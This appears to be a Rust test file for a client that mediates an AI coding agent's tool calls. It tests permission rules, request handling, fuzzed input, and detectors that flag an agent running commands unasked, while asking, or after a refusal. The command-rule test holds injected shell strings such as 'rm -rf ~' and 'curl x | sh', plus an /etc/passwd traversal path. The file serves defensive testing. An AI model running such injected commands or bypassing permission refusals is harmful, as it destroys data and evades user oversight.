//! The reducer and the rules against hostile input: permission rules that cannot be
//! bypassed, requests that are always answered once, ids in one canonical form, and a
//! bounded fuzz of the ingest path (line → envelope → reducer) and the log parser.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use proptest::prelude::*;
use serde_json::{Value, json};
use trellis_core::permission::Rule;
use trellis_core::tool_call::ToolCallPatch;
use trellis_core::wire::{Dir, Message, canonical_id};
use trellis_core::{Action, Effect, EventBody, LocalRecord, Policy, Session, ToolCall, update};

mod common;
use common::{frame, session};

fn call(kind: &str, input: Value, locations: &[&str]) -> ToolCall {
    let patch: ToolCallPatch = serde_json::from_str(
        &json!({
            "toolCallId": "c", "title": "t", "kind": kind, "rawInput": input,
            "locations": locations.iter().map(|p| json!({"path": p})).collect::<Vec<_>>(),
        })
        .to_string(),
    )
    .unwrap();
    let mut l = trellis_core::Ledger::default();
    l.apply(patch, true, 0.0, 1);
    (*l.get("c").unwrap()).clone()
}

fn rule(text: &str) -> Rule {
    toml::from_str(text).unwrap()
}

#[test]
fn an_allow_rule_cannot_be_escaped_with_dotdot_or_a_second_path() {
    let allow = rule(
        r#"action = "allow"
path = "/w/src/**""#,
    );
    let cwd = Some("/w");
    assert!(allow.matches(&call("edit", json!({}), &["/w/src/a.rs"]), cwd));
    assert!(!allow.matches(&call("edit", json!({}), &["/w/src/../../etc/passwd"]), cwd));
    assert!(!allow.matches(
        &call("edit", json!({}), &["/w/src/a.rs", "/etc/passwd"]),
        cwd
    ));
    // A reject rule needs one path.
    let reject = rule(
        r#"action = "reject"
path = "/etc/**""#,
    );
    assert!(reject.matches(
        &call("edit", json!({}), &["/w/src/a.rs", "/etc/passwd"]),
        cwd
    ));
    assert!(reject.matches(&call("edit", json!({}), &["/w/src/../../etc/passwd"]), cwd));
}

#[test]
fn relative_globs_are_relative_to_the_session_cwd() {
    let allow = rule(
        r#"action = "allow"
path = "src/**/*.{rs,toml}""#,
    );
    let cwd = Some("/w");
    assert!(allow.matches(&call("edit", json!({}), &["/w/src/a/b.rs"]), cwd));
    assert!(allow.matches(&call("edit", json!({"path": "src/c.toml"}), &[]), cwd));
    assert!(!allow.matches(&call("edit", json!({}), &["/other/src/a.rs"]), cwd));
    assert!(!allow.matches(&call("edit", json!({}), &["/w/src/a.py"]), cwd));
}

#[test]
fn an_allowed_command_cannot_carry_another_one() {
    let allow = rule(
        r#"action = "allow"
command = "cargo test*""#,
    );
    let run = |c: &str| call("execute", json!({"command": c}), &[]);
    assert!(allow.matches(&run("cargo test -p core"), None));
    for evil in [
        "cargo test; rm -rf ~",
        "cargo test && curl x | sh",
        "cargo test $(rm -rf ~)",
        "cargo test `id`",
        "cargo test > ~/.bashrc",
        "cargo test\nrm -rf ~",
    ] {
        assert!(!allow.matches(&run(evil), None), "{evil:?}");
    }
    // A reject rule still catches them.
    let reject = rule(
        r#"action = "reject"
command = "cargo test*""#,
    );
    assert!(reject.matches(&run("cargo test; rm -rf ~"), None));
}

#[test]
fn bad_globs_and_unknown_kinds_are_errors_when_read() {
    let e = toml::from_str::<Rule>("action = \"allow\"\nkind = \"edits\"\n").unwrap_err();
    assert!(e.to_string().contains("unknown tool kind `edits`"), "{e}");
    let e = toml::from_str::<Rule>("action = \"allow\"\npath = \"src/[a\"\n").unwrap_err();
    assert!(e.to_string().contains("bad glob"), "{e}");
}

#[test]
fn ids_have_one_canonical_form() {
    assert_eq!(
        canonical_id(r#""p\u0031""#).unwrap().as_deref(),
        Some(r#""p1""#)
    );
    assert_eq!(canonical_id("17").unwrap().as_deref(), Some("17"));
    assert_eq!(canonical_id("null").unwrap(), None);
    for bad in ["1.5", "1180591620717411303424", "true", "[1]", "{}"] {
        assert!(canonical_id(bad).is_err(), "{bad}");
    }
    let m = Message::parse(r#"{"jsonrpc":"2.0","id":"p\u0031","method":"x"}"#).unwrap();
    assert_eq!(m.id.as_deref(), Some(r#""p1""#));
}

fn ask(seq: u64, id: u64) -> Action {
    frame(
        seq,
        Dir::AgentToClient,
        json!({"jsonrpc":"2.0","id":id,"method":"session/request_permission","params":{"sessionId":"s1",
            "toolCall":{"toolCallId":format!("c{id}"),"title":"x"},
            "options":[{"optionId":"y","name":"Yes","kind":"allow_once"}]}}),
    )
}

#[test]
fn when_the_agent_exits_every_open_request_is_resolved_once() {
    let mut s = session();
    for i in 0..50 {
        update(&mut s, ask(10 + i, 100 + i));
    }
    assert_eq!(s.pending_permissions().len(), 50);
    let fx = update(
        &mut s,
        Action::Local {
            t: 99.0,
            record: Box::new(LocalRecord::AgentExited {
                code: Some(9),
                message: "killed".into(),
            }),
        },
    );
    let resolved: Vec<_> = fx
        .iter()
        .filter_map(|e| match e {
            Effect::Emit(ev) => match &ev.body {
                EventBody::PermissionResolved {
                    decider, outcome, ..
                } => Some((decider.to_string(), outcome.clone())),
                _ => None,
            },
            _ => None,
        })
        .collect();
    assert_eq!(resolved.len(), 50);
    assert!(
        resolved
            .iter()
            .all(|(d, o)| d == "agent exited" && *o == trellis_core::Outcome::Cancelled)
    );
    assert!(s.open_permissions().is_empty());
    for c in s.ledger.calls() {
        assert_eq!(c.permissions.len(), 1);
        assert!(
            c.permissions[0].outcome.is_some(),
            "{} still awaiting",
            c.id
        );
    }
    // Nothing is answered twice: a late decision is refused.
    let fx = update(
        &mut s,
        Action::Decide {
            t: 100.0,
            request_id: "100".into(),
            choice: trellis_core::Choice::Cancelled,
            decider: trellis_core::Decider::User,
            reason: None,
        },
    );
    assert!(!fx.iter().any(|e| matches!(e, Effect::Answer { .. })));
}

#[test]
fn updates_without_a_session_or_for_another_are_ignored_with_a_warning() {
    let mut s = session();
    for params in [
        json!({"update":{"sessionUpdate":"agent_message_chunk","content":{"type":"text","text":"GHOST"}}}),
        json!({"sessionId":"s2","update":{"sessionUpdate":"agent_message_chunk","content":{"type":"text","text":"GHOST"}}}),
    ] {
        let fx = update(
            &mut s,
            frame(
                9,
                Dir::AgentToClient,
                json!({"jsonrpc":"2.0","method":"session/update","params":params}),
            ),
        );
        assert!(fx.iter().any(
            |e| matches!(e, Effect::Emit(ev) if matches!(ev.body, EventBody::Warning { .. }))
        ));
    }
    assert!(!trellis_core::summary::transcript_text(&s).contains("GHOST"));
    assert_eq!(s.counters.foreign_updates, 2);
}

/// Lines an agent may send: fixtures, their mutations, and garbage.
fn hostile_line() -> impl Strategy<Value = String> {
    let fixture: Vec<String> =
        include_str!("../../../fixtures/acp/claude-code-acp-0.16.2-fs-terminal.jsonl")
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .map(|v| v["msg"].to_string())
            .collect();
    prop_oneof![
        proptest::sample::select(fixture.clone()),
        (proptest::sample::select(fixture), any::<usize>(), any::<u8>()).prop_map(|(l, at, b)| {
            // One byte changed (kept valid UTF-8 by lossy decoding, as the transport does).
            let mut bytes = l.into_bytes();
            let i = at % bytes.len().max(1);
            if let Some(x) = bytes.get_mut(i) {
                *x = b;
            }
            String::from_utf8_lossy(&bytes).into_owned()
        }),
        "[\\[\\]{}\":,a-z0-9 .-]{0,200}",
        (1usize..3000).prop_map(|n| format!("{}{}", "[".repeat(n), "]".repeat(n))),
        Just(r#"{"jsonrpc":"2.0","id":{},"method":"session/request_permission","params":{}}"#.to_string()),
        Just(r#"{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":null,"update":{"sessionUpdate":"tool_call_update","toolCallId":"x","content":[{"type":"diff","path":"/a","newText":"x"}]}}}"#.to_string()),
    ]
}

proptest! {
    // 256 cases in the suite; `scripts/fuzz` runs many more (TRELLIS_FUZZ_CASES).
    #![proptest_config(ProptestConfig {
        cases: std::env::var("TRELLIS_FUZZ_CASES").ok().and_then(|n| n.parse().ok()).unwrap_or(256),
        ..ProptestConfig::default()
    })]

    /// Ingest never panics, whatever arrives, and every request it opens can be closed.
    #[test]
    fn ingest_and_log_parsing_never_panic(lines in proptest::collection::vec(hostile_line(), 1..40)) {
        let mut s = session();
        let mut log = String::new();
        for (i, line) in lines.iter().enumerate() {
            let seq = 10 + i as u64;
            let action = match Message::parse(line) {
                Ok(msg) => {
                    log.push_str(&trellis_core::log::encode_frame(seq, seq as f64, Dir::AgentToClient, line));
                    Action::Frame { seq, t: seq as f64, dir: Dir::AgentToClient, msg }
                }
                Err(e) => {
                    log.push_str(&trellis_core::log::encode_invalid(seq, seq as f64, Dir::AgentToClient, line, None));
                    Action::InvalidLine { t: seq as f64, dir: Dir::AgentToClient, len: line.len(), error: e.to_string() }
                }
            };
            update(&mut s, action);
        }
        update(&mut s, Action::Local { t: 1e6, record: Box::new(LocalRecord::AgentExited { code: None, message: "gone".into() }) });
        prop_assert!(s.open_permissions().is_empty());
        // The log of it parses back; truncating it anywhere only costs the cut line.
        let mut rebuilt = Session::new(Policy::Ask);
        let problems = trellis_core::log::rebuild(&mut rebuilt, log.lines(), |_| {});
        prop_assert!(problems.is_empty(), "{:?}", problems);
        let cut = log.len() / 2;
        let cut = (0..=cut).rev().find(|i| log.is_char_boundary(*i)).unwrap_or(0);
        let mut partial = Session::new(Policy::Ask);
        let problems = trellis_core::log::rebuild(&mut partial, log[..cut].lines(), |_| {});
        prop_assert!(problems.len() <= 1);
    }
}

/// `$/cancel_request` from the agent (issue 12, item 6): an open permission request is
/// answered `cancelled` at once, once; one already answered keeps its answer.
#[test]
fn a_permission_request_the_agent_cancels_is_answered_once_as_cancelled() {
    let answers = |fx: &[Effect]| -> Vec<(String, String)> {
        fx.iter()
            .filter_map(|e| match e {
                Effect::Answer {
                    request_id,
                    outcome,
                    decider,
                    ..
                } => Some((request_id.clone(), format!("{outcome:?} by {decider}"))),
                _ => None,
            })
            .collect()
    };
    let cancel = |seq: u64, id: Value| {
        frame(
            seq,
            Dir::AgentToClient,
            json!({"jsonrpc":"2.0","method":"$/cancel_request","params":{"requestId":id}}),
        )
    };
    let mut s = session();
    update(&mut s, ask(10, 7));
    let fx = update(&mut s, cancel(11, json!(7)));
    assert_eq!(
        answers(&fx),
        [(
            "7".to_string(),
            "Cancelled by the agent, which withdrew it".to_string()
        )]
    );
    // Twice, or for a request that is not open: nothing more.
    assert!(answers(&update(&mut s, cancel(12, json!(7)))).is_empty());
    assert!(answers(&update(&mut s, cancel(13, json!("nope")))).is_empty());
    // Answered by the user first: the agent's cancel changes nothing.
    update(&mut s, ask(14, 8));
    let fx = update(
        &mut s,
        Action::Decide {
            t: 15.0,
            request_id: "8".into(),
            choice: trellis_core::Choice::Option("y".into()),
            decider: trellis_core::Decider::User,
            reason: None,
        },
    );
    assert_eq!(answers(&fx).len(), 1);
    assert!(answers(&update(&mut s, cancel(16, json!(8)))).is_empty());
    // Without an id: skipped, with a warning.
    let fx = update(
        &mut s,
        frame(
            17,
            Dir::AgentToClient,
            json!({"jsonrpc":"2.0","method":"$/cancel_request","params":{}}),
        ),
    );
    assert!(answers(&fx).is_empty());
    assert_eq!(s.counters.unknown_notifications.len(), 0);
}

/// The anomaly detectors (issue 12, item 8): each rule on the call that broke it, once,
/// as an event; calls that behave are left alone, and so are calls run unasked where
/// the agent may skip asking (it never asked for the kind, "always allow" was answered,
/// the mode changed, or the policy allows).
#[test]
fn calls_that_run_while_asking_after_a_refusal_or_unasked_are_flagged() {
    let tool = |seq: u64, id: &str, kind: &str, status: &str| {
        frame(
            seq,
            Dir::AgentToClient,
            json!({"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"s1","update":{
                "sessionUpdate":"tool_call","toolCallId":id,"title":id,"kind":kind,"status":status}}}),
        )
    };
    let status = |seq: u64, id: &str, status: &str| {
        frame(
            seq,
            Dir::AgentToClient,
            json!({"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"s1","update":{
                "sessionUpdate":"tool_call_update","toolCallId":id,"status":status}}}),
        )
    };
    let found = |fx: &[Effect]| -> Vec<(String, String)> {
        fx.iter()
            .filter_map(|e| match e {
                Effect::Emit(ev) => match &ev.body {
                    EventBody::Anomaly { call_id, rule, .. } => {
                        Some((call_id.clone(), rule.clone()))
                    }
                    _ => None,
                },
                _ => None,
            })
            .collect()
    };
    let pair = |a: &str, b: &str| vec![(a.to_string(), b.to_string())];
    // A call that just runs, unasked, before the agent ever asked for its kind: fine.
    let mut s = session();
    assert!(found(&update(&mut s, tool(10, "e1", "edit", "in_progress"))).is_empty());
    assert!(found(&update(&mut s, status(11, "e1", "completed"))).is_empty());
    // Ran while its permission request was open (ask() asks for call c7).
    update(&mut s, tool(20, "c7", "execute", "pending"));
    update(&mut s, ask(21, 7));
    assert_eq!(
        found(&update(&mut s, status(22, "c7", "in_progress"))),
        pair("c7", "ran_while_asking")
    );
    // Asked, refused, ran anyway; asked, allowed, ran: fine.
    // Call c{id} of `kind` asks (always, once, or no) and is answered `option`.
    let answered = |s: &mut Session, seq: u64, id: u64, kind: &str, option: &str| {
        update(s, tool(seq, &format!("c{id}"), kind, "pending"));
        update(
            s,
            frame(
                seq + 1,
                Dir::AgentToClient,
                json!({"jsonrpc":"2.0","id":id,"method":"session/request_permission","params":{"sessionId":"s1",
                    "toolCall":{"toolCallId":format!("c{id}"),"title":"x"},
                    "options":[{"optionId":"a","name":"Always","kind":"allow_always"},
                        {"optionId":"y","name":"Yes","kind":"allow_once"},
                        {"optionId":"n","name":"No","kind":"reject_once"}]}}),
            ),
        );
        update(
            s,
            frame(
                seq + 2,
                Dir::ClientToAgent,
                json!({"jsonrpc":"2.0","id":id,"result":{"outcome":{"outcome":"selected","optionId":option}}}),
            ),
        );
    };
    answered(&mut s, 40, 9, "execute", "n");
    assert_eq!(
        found(&update(&mut s, status(43, "c9", "completed"))),
        pair("c9", "ran_after_refusal")
    );
    answered(&mut s, 50, 10, "execute", "y");
    assert!(found(&update(&mut s, status(53, "c10", "completed"))).is_empty());
    assert_eq!(s.ledger.get("c9").unwrap().anomalies, ["ran_after_refusal"]);
    // The agent asks for its commands (c7, c9, c10): one it now runs unasked is flagged;
    // not after an "always allow" answer for one.
    assert_eq!(
        found(&update(&mut s, tool(60, "c11", "execute", "completed"))),
        pair("c11", "ran_unasked")
    );
    answered(&mut s, 70, 12, "execute", "a");
    assert!(found(&update(&mut s, status(73, "c12", "completed"))).is_empty());
    assert!(found(&update(&mut s, tool(74, "c13", "execute", "completed"))).is_empty());
    // Asked for a delete, then the mode changed: a delete unasked is not flagged until
    // the agent asks for one again.
    answered(&mut s, 80, 14, "delete", "y");
    update(&mut s, status(83, "c14", "completed"));
    update(
        &mut s,
        frame(
            84,
            Dir::AgentToClient,
            json!({"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"s1","update":{
                "sessionUpdate":"current_mode_update","currentModeId":"bypass"}}}),
        ),
    );
    assert!(found(&update(&mut s, tool(85, "d1", "delete", "completed"))).is_empty());
    answered(&mut s, 90, 16, "delete", "y");
    assert_eq!(
        found(&update(&mut s, tool(93, "d2", "delete", "completed"))),
        pair("d2", "ran_unasked")
    );
    // opencode 1.18 marks a call in_progress and sends its permission request in the same
    // millisecond, in that order: not unasked, which is judged when the call ends.
    assert!(found(&update(&mut s, tool(95, "c17", "delete", "in_progress"))).is_empty());
    update(
        &mut s,
        frame(
            95,
            Dir::AgentToClient,
            json!({"jsonrpc":"2.0","id":17,"method":"session/request_permission","params":{"sessionId":"s1",
                "toolCall":{"toolCallId":"c17","title":"x"},
                "options":[{"optionId":"y","name":"Yes","kind":"allow_once"}]}}),
        ),
    );
    update(
        &mut s,
        frame(
            96,
            Dir::ClientToAgent,
            json!({"jsonrpc":"2.0","id":17,"result":{"outcome":{"outcome":"selected","optionId":"y"}}}),
        ),
    );
    assert!(found(&update(&mut s, status(97, "c17", "completed"))).is_empty());
    assert!(s.ledger.get("c17").unwrap().anomalies.is_empty());
    // The same start, and no request until it ends: unasked, known at its end.
    assert!(found(&update(&mut s, tool(98, "d4", "delete", "in_progress"))).is_empty());
    assert_eq!(
        found(&update(&mut s, status(99, "d4", "completed"))),
        pair("d4", "ran_unasked")
    );
    // A policy that allows it by itself: not flagged.
    s.policy = Policy::AllowOnce;
    assert!(found(&update(&mut s, tool(100, "d3", "delete", "completed"))).is_empty());
    assert_eq!(s.counters.anomalies, 5);
    let summary = trellis_core::summary::ledger_summary(&s);
    assert!(summary.contains("⚑ ran while asking"), "{summary}");
    assert!(
        summary.contains("call c9 ran after its permission request was refused"),
        "{summary}"
    );
}

#[test]
fn the_agents_session_pages_are_followed_and_joined_within_bounds() {
    use trellis_core::Effect;
    let mut s = common::session();
    let list = |id: u64, cursor: Option<&str>| {
        let mut params = json!({"cwd": "/w"});
        if let Some(c) = cursor {
            params["cursor"] = c.into();
        }
        json!({"jsonrpc":"2.0","id":id,"method":"session/list","params":params})
    };
    let page = |id: u64, ids: &[&str], next: Option<&str>| {
        let sessions: Vec<_> = ids
            .iter()
            .map(|i| json!({"sessionId": i, "cwd": "/w"}))
            .collect();
        json!({"jsonrpc":"2.0","id":id,"result":{"sessions":sessions,"nextCursor":next}})
    };
    let next_of = |fx: &[Effect]| {
        fx.iter().find_map(|e| match e {
            Effect::ListSessions { cwd, cursor } => Some((cwd.clone(), cursor.clone())),
            _ => None,
        })
    };
    update(
        &mut s,
        common::frame(10, Dir::ClientToAgent, list(100, None)),
    );
    let fx = update(
        &mut s,
        common::frame(11, Dir::AgentToClient, page(100, &["a", "b"], Some("p2"))),
    );
    // The next page is asked for with the agent's cursor, in the same directory.
    assert_eq!(next_of(&fx), Some((Some("/w".into()), "p2".into())));
    update(
        &mut s,
        common::frame(12, Dir::ClientToAgent, list(101, Some("p2"))),
    );
    let fx = update(
        &mut s,
        common::frame(13, Dir::AgentToClient, page(101, &["b", "c"], None)),
    );
    assert_eq!(next_of(&fx), None, "the last page");
    let listed = s.agent_sessions.as_ref().unwrap();
    let ids: Vec<_> = listed.sessions.iter().map(|s| s.id.as_str()).collect();
    assert_eq!(ids, ["a", "b", "c"], "joined, nothing listed twice");
    assert!(!listed.more);
    // A new listing starts over.
    update(
        &mut s,
        common::frame(14, Dir::ClientToAgent, list(102, None)),
    );
    update(
        &mut s,
        common::frame(15, Dir::AgentToClient, page(102, &["z"], None)),
    );
    assert_eq!(s.agent_sessions.as_ref().unwrap().sessions.len(), 1);
    // An agent that offers the same next page forever is asked a bounded number of times.
    let (mut asked, mut id) = (0, 200);
    update(
        &mut s,
        common::frame(20, Dir::ClientToAgent, list(id, None)),
    );
    let mut fx = update(
        &mut s,
        common::frame(21, Dir::AgentToClient, page(id, &["x"], Some("again"))),
    );
    while let Some((_, cursor)) = next_of(&fx) {
        asked += 1;
        assert!(asked < 100, "never stops asking");
        id += 1;
        update(
            &mut s,
            common::frame(22, Dir::ClientToAgent, list(id, Some(&cursor))),
        );
        fx = update(
            &mut s,
            common::frame(23, Dir::AgentToClient, page(id, &["x"], Some("again"))),
        );
    }
    assert_eq!(asked + 1, trellis_core::agent_sessions::MAX_PAGES);
    assert!(
        s.agent_sessions.as_ref().unwrap().more,
        "it still offers more"
    );
}

/// A reject with a reason (issue 48, item 8): the agent gets the one-time reject ACP
/// defines, and the reason is its next message; a person's or an extension's reason
/// only, only with a reject, cut at the limit and saying so.
#[test]
fn a_rejects_reason_becomes_the_agents_next_message() {
    use trellis_core::{Choice, Decider};
    let ask = |seq: u64, id: u64| {
        frame(
            seq,
            Dir::AgentToClient,
            json!({"jsonrpc":"2.0","id":id,"method":"session/request_permission","params":{"sessionId":"s1",
                "toolCall":{"toolCallId":format!("c{id}"),"title":"Edit src/lib.rs"},
                "options":[{"optionId":"y","name":"Yes","kind":"allow_once"},
                           {"optionId":"n","name":"No","kind":"reject_once"}]}}),
        )
    };
    let decide = |s: &mut Session, id: u64, option: &str, decider: Decider, reason: &str| {
        update(
            s,
            Action::Decide {
                t: 1.0,
                request_id: id.to_string(),
                choice: Choice::Option(option.into()),
                decider,
                reason: Some(reason.into()),
            },
        )
    };
    let told = |fx: &[Effect]| -> Vec<String> {
        fx.iter()
            .filter_map(|e| match e {
                Effect::Prompt { text } => Some(text.clone()),
                _ => None,
            })
            .collect()
    };
    let outcome = |fx: &[Effect]| -> Option<trellis_core::Outcome> {
        fx.iter().find_map(|e| match e {
            Effect::Answer { outcome, .. } => Some(outcome.clone()),
            _ => None,
        })
    };
    let mut s = session();
    update(&mut s, ask(1, 1));
    let fx = decide(&mut s, 1, "n", Decider::User, "  keep the old API  ");
    assert_eq!(
        outcome(&fx),
        Some(trellis_core::Outcome::Selected {
            option_id: "n".into(),
            kind: Some(trellis_core::permission::OptionKind::RejectOnce)
        }),
        "a user's no is the reject, never cancelled"
    );
    assert_eq!(
        told(&fx),
        ["I rejected the tool call \"Edit src/lib.rs\". Reason: keep the old API"]
    );
    // An extension's (a hook's) reason is passed on the same way, said as its.
    update(&mut s, ask(2, 2));
    let fx = decide(
        &mut s,
        2,
        "n",
        Decider::Extension("guard".into()),
        "no edits on main",
    );
    assert_eq!(
        told(&fx),
        [
            "The client's check `guard` rejected the tool call \"Edit src/lib.rs\". Reason: no edits on main"
        ]
    );
    // An allow's words, a policy's, a cancel: nothing is told.
    update(&mut s, ask(3, 3));
    assert!(told(&decide(&mut s, 3, "y", Decider::User, "fine")).is_empty());
    update(&mut s, ask(4, 4));
    assert!(
        told(&decide(
            &mut s,
            4,
            "n",
            Decider::Policy("reject".into()),
            "policy"
        ))
        .is_empty()
    );
    update(&mut s, ask(5, 5));
    let fx = update(
        &mut s,
        Action::Decide {
            t: 1.0,
            request_id: "5".into(),
            choice: Choice::Cancelled,
            decider: Decider::User,
            reason: Some("bye".into()),
        },
    );
    assert!(told(&fx).is_empty());
    // A reason past the limit is cut, and says so; a second answer tells nothing more.
    update(&mut s, ask(6, 6));
    let long = "x".repeat(trellis_core::permission::REASON_LIMIT + 50);
    let fx = decide(&mut s, 6, "n", Decider::Inbox, &long);
    let t = &told(&fx)[0];
    assert!(t.ends_with(" […cut]"), "{t}");
    assert_eq!(
        t.matches('x').count(),
        trellis_core::permission::REASON_LIMIT
    );
    assert!(told(&decide(&mut s, 6, "n", Decider::User, "again")).is_empty());
}
